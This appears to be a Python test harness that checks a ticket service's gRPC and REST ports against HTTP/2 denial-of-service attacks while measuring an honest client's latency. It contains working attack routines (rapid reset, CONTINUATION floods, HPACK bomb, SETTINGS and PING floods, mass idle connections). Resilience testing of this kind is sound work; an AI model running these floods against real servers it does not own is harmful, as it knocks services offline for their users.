"""Attacks on HTTP/2 itself, at the gRPC port and at the gateway's, with an honest client beside.

Usage: attacks.py GRPC_ADDRESS REST_ADDRESS PID TICKET. No honest call may fail. Attacks on the life of streams must end
their connection; floods need only be borne.
"""

import http.client
import resource
import sys
import threading
import time
from pathlib import Path

import grpc
from http2 import Raw, grpc_headers, message
from hyperframe.frame import (
    ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame,
)

GET_TICKET = "/boxoffice.ticket.v1.TicketService/GetTicket"
ALONE_SECS = 1
ATTACK_SECS = 1.5
ENDED_WITHIN_SECS = 10
CONNECTIONS = 10_000
ROOM = 200
CONNECTION_BYTES_MAX = 20 * 1024
SPINNING = 0.5


class Target:
    """A port, and how an honest and a dishonest client ask it for something."""

    def __init__(self, name, address, headers, body, ask):
        self.name, self.address, self.headers, self.body, self.ask = name, address, headers, body, ask


def targets(grpc_address, rest_address, ticket):
    asked = b"\x0a\x24" + ticket.encode()

    def over_grpc():
        channel = grpc.insecure_channel(grpc_address)
        call = channel.unary_unary(GET_TICKET)
        return lambda: call(asked, timeout=10)

    def over_rest():
        connection = http.client.HTTPConnection(rest_address, timeout=10)

        def ask():
            connection.request("GET", f"/v1/tickets/{ticket}")
            answer = connection.getresponse()
            answer.read()
            assert answer.status == 200, answer.status
        return ask

    path = f"/v1/tickets/{ticket}"
    rest = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "boxoffice")]
    posted = [(":method", "POST"), (":scheme", "http"), (":path", "/v1/bookings"), (":authority", "boxoffice"),
              ("content-type", "application/json")]
    yield Target("gRPC", grpc_address, (grpc_headers(GET_TICKET),) * 2, message(asked), over_grpc)
    yield Target("REST", rest_address, (rest, posted), b'{"quantity": 1}', over_rest)


class Honest(threading.Thread):
    """Calls one after the other until it is told to stop."""

    def __init__(self, target):
        super().__init__(daemon=True)
        self.ask, self.over, self.took, self.failed = target.ask(), threading.Event(), [], []

    def run(self):
        while not self.over.is_set():
            began = time.perf_counter()
            try:
                self.ask()
            except Exception as error:  # Whatever it is, an honest call has failed.
                self.failed.append(repr(error))
            self.took.append(time.perf_counter() - began)

    def stop(self):
        self.over.set()
        self.join()
        return sorted(self.took)[int(len(self.took) * 0.99)]


def until(secs):
    """Counts odd stream numbers for so long."""
    give_up = time.monotonic() + secs
    stream = 1
    while time.monotonic() < give_up:
        yield stream
        stream += 2


def rapid_reset(raw, target):
    for stream in until(ENDED_WITHIN_SECS):
        if not raw.send(raw.headers(stream, target.headers[0], "END_HEADERS", "END_STREAM"), RstStreamFrame(stream, 8)):
            return


def made_you_reset(raw, target):
    """The server resets the streams itself, for windows beyond the largest there is; it does so a thousand times."""
    for stream in until(ENDED_WITHIN_SECS):
        wrong = WindowUpdateFrame(stream, 2**31 - 1)
        if not raw.send(raw.headers(stream, target.headers[1], "END_HEADERS"), wrong):
            return


def continuation_flood(raw, target):
    begin = HeadersFrame(1, data=raw.encoder.encode(target.headers[0]))
    raw.send(begin)
    for _ in until(ENDED_WITHIN_SECS):
        more = raw.encoder.encode([(f"x-{n}", "m" * 100) for n in range(20)])
        if not raw.send(ContinuationFrame(1, data=more)):
            return


def empty_continuations(raw, target):
    raw.send(HeadersFrame(1, data=raw.encoder.encode(target.headers[0])))
    for _ in until(ENDED_WITHIN_SECS):
        if not raw.send(*[ContinuationFrame(1, data=b"")] * 50):
            return


def settings_flood(raw, _):
    for _ in until(ATTACK_SECS):
        if not raw.send(*[SettingsFrame(0, settings={4: 65535})] * 50):
            return


def ping_flood(raw, _):
    for _ in until(ATTACK_SECS):
        if not raw.send(*[PingFrame(0, b"attacked")] * 50):
            return


def hpack_bomb(raw, target):
    """One long header in the table, then named by a byte each, thousands of times."""
    block = raw.encoder.encode([*target.headers[0], ("x-bomb", "b" * 3900)])
    first = HeadersFrame(1, data=block, flags=["END_HEADERS", "END_STREAM"])
    raw.send(first)
    for stream in until(ATTACK_SECS):
        # 62 is where the table of one's own begins, and its newest entry.
        block = raw.encoder.encode(target.headers[0]) + b"\xbe" * 12_000
        if not raw.send(HeadersFrame(stream + 2, data=block, flags=["END_HEADERS", "END_STREAM"])):
            return


def one_byte_frames(raw, target):
    for stream in until(ATTACK_SECS):
        raw.send(raw.headers(stream, target.headers[1], "END_HEADERS"))
        frames = [DataFrame(stream, bytes([byte])) for byte in target.body]
        frames[-1].flags.add("END_STREAM")
        empty = [DataFrame(stream, b"")] * 20
        if not raw.send(*empty, *frames):
            return


# Whether its connection must be ended.
ATTACKS = ((rapid_reset, True), (made_you_reset, True), (continuation_flood, True), (empty_continuations, True),
           (settings_flood, False), (ping_flood, False), (hpack_bomb, False), (one_byte_frames, False))


def attack(target, how, must_end, endings):
    patience = ENDED_WITHIN_SECS + 1 if must_end else ATTACK_SECS + 0.5
    try:
        with Raw(target.address) as raw:
            raw.tcp.settimeout(ENDED_WITHIN_SECS)
            reading = threading.Thread(target=lambda: endings.append(raw.ended_within(patience)), daemon=True)
            reading.start()
            how(raw, target)
            reading.join()
    except OSError:
        endings.append("closed")


def measured(target, how, must_end):
    """The honest client's 99th percentile beside so many attackers, and how these ended."""
    honest, endings = Honest(target), []
    honest.start()
    attackers = [threading.Thread(target=attack, args=(target, how, must_end, endings), daemon=True) for _ in range(3)]
    for attacker in attackers:
        attacker.start()
    for attacker in attackers:
        attacker.join()
    p99 = honest.stop()
    assert not honest.failed, f"{target.name}, {how.__name__}: honest calls failed: {honest.failed[:3]}"
    assert honest.took and len(endings) == len(attackers), f"{how.__name__}: {endings}"
    return p99, endings


def besiege(target):
    honest = Honest(target)
    honest.start()
    time.sleep(ALONE_SECS)
    alone = honest.stop()
    assert not honest.failed, honest.failed[:3]
    for how, must_end in ATTACKS:
        beside, endings = measured(target, how, must_end)
        ended = ", ".join(sorted(endings))
        print(f"{target.name}: {how.__name__}: p99 x {beside / alone:.1f}, attackers: {ended}", flush=True)
        assert not must_end or "open" not in endings, f"{target.name}, {how.__name__}: {endings}"


def resident(pid):
    return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * 4096


def worked(pid):
    """Seconds of processor time."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / 100


def idle(target, pid):
    """Many connections that say what they are and then nothing."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    limits = Path(f"/proc/{pid}/limits").read_text().splitlines()
    theirs = int(next(line for line in limits if line.startswith("Max open files")).split()[3])
    count = min(CONNECTIONS - ROOM, min(most, theirs) - ROOM)
    before = resident(pid)
    connections = [Raw(target.address) for _ in range(count)]
    honest = target.ask()
    honest()
    each = (resident(pid) - before) / count
    began = worked(pid)
    time.sleep(1)
    busy = worked(pid) - began
    honest()
    print(f"{count} idle connections: {each / 1024:.1f} KiB each, {busy:.0%} of a processor")
    for connection in connections:
        connection.tcp.close()
    assert each <= CONNECTION_BYTES_MAX, f"{each} bytes for each"
    assert busy < SPINNING, "it spins"
    target.ask()()


def main(grpc_address, rest_address, pid, ticket):
    both = list(targets(grpc_address, rest_address, ticket))
    idle(both[0], pid)
    for target in both:
        besiege(target)
    print("all borne")


if __name__ == "__main__":
    main(*sys.argv[1:])
